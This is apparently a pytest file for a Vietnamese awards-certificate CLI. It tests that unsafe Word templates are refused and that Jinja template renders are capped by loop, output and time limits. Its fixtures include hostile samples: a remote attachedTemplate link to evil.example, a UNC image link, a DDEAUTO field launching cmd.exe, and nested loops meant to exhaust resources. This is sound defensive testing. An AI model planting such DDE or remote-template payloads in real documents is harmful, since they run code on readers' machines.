"""io/template_safety: hostile templates are refused, renders are bounded (issue 10)."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import jinja2
import pytest

from helpers import docx_with, relationships_xml
from thidua_cli.errors import ExitCode, TemplateError
from thidua_cli.io.template_safety import RenderBudget, refuse_unsafe, time_limit, unsafe_parts

SHIPPED = Path(__file__).resolve().parents[2] / "src" / "thidua_cli" / "templates" / "giay-khen.docx"


def _with(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    return docx_with("giay-khen", extra, replace)


def test_the_shipped_templates_are_clean() -> None:
    for path in SHIPPED.parent.glob("*.docx"):
        assert unsafe_parts(path.read_bytes()) == [], path.name


@pytest.mark.parametrize(("part", "needle"), [
    ('<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
     "attachedTemplate"),
    ('<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships/image" Target="\\\\server\\share\\a.png" TargetMode="External"/>',
     "ảnh liên kết ra ngoài"),
    ('<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships/hyperlink" Target="http://example.com/" TargetMode="External"/>',
     "liên kết ra ngoài"),
])
def test_external_relationships(part: str, needle: str) -> None:
    data = _with({"word/_rels/settings.xml.rels": relationships_xml(part)})
    found = unsafe_parts(data)
    assert any(needle in f for f in found), found
    with pytest.raises(TemplateError) as info:
        refuse_unsafe(data, "giay-khen.docx")
    assert info.value.exit_code == ExitCode.TEMPLATE
    assert needle in info.value.message


def test_dde_field_and_macro_part() -> None:
    with zipfile.ZipFile(SHIPPED) as z:
        doc = z.read("word/document.xml")
    evil = doc.replace(b"</w:body>", b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\'
                       b'windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:body>')
    found = unsafe_parts(_with({"word/vbaProject.bin": b"\x00" * 10},
                               {"word/document.xml": evil}))
    assert any("DDEAUTO" in f for f in found), found
    assert any("macro VBA" in f for f in found), found
    simple = doc.replace(b"</w:body>", b'<w:p><w:fldSimple w:instr=" DDE excel x"/></w:p></w:body>')
    assert any("DDE" in f for f in unsafe_parts(_with({}, {"word/document.xml": simple})))


def _env(budget: RenderBudget) -> jinja2.Environment:
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    env = ImmutableSandboxedEnvironment()
    env.concat = budget.concat  # type: ignore[method-assign]
    env.globals["range"] = budget.range
    return env


def test_nested_ranges_stop_at_the_loop_bound() -> None:
    budget = RenderBudget("x", max_loop_items=1_000_000)
    tpl = _env(budget).from_string(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")
    t0 = time.monotonic()
    with pytest.raises(TemplateError, match="vượt giới hạn"):
        tpl.render()
    assert time.monotonic() - t0 < 5


def test_output_bound() -> None:
    budget = RenderBudget("x", max_output_chars=10_000)
    tpl = _env(budget).from_string("{% for i in range(5000) %}abcdef{% endfor %}")
    with pytest.raises(TemplateError, match="ký tự"):
        tpl.render()


def test_time_limit_stops_a_silent_loop() -> None:
    budget = RenderBudget("x", seconds=0.5)
    env = _env(budget)
    env.globals["people"] = list(range(3000))
    tpl = env.from_string("{% for a in people %}{% for b in people %}{% for c in people %}"
                          "{% endfor %}{% endfor %}{% endfor %}")
    t0 = time.monotonic()
    with pytest.raises(TemplateError, match="giây"), time_limit(budget):
        tpl.render()
    assert time.monotonic() - t0 < 5


def test_a_normal_render_is_untouched() -> None:
    budget = RenderBudget("x")
    with time_limit(budget):
        out = _env(budget).from_string("{% for i in range(3) %}{{ i }}{% endfor %}").render()
    assert out == "012"
    assert budget.items == 3
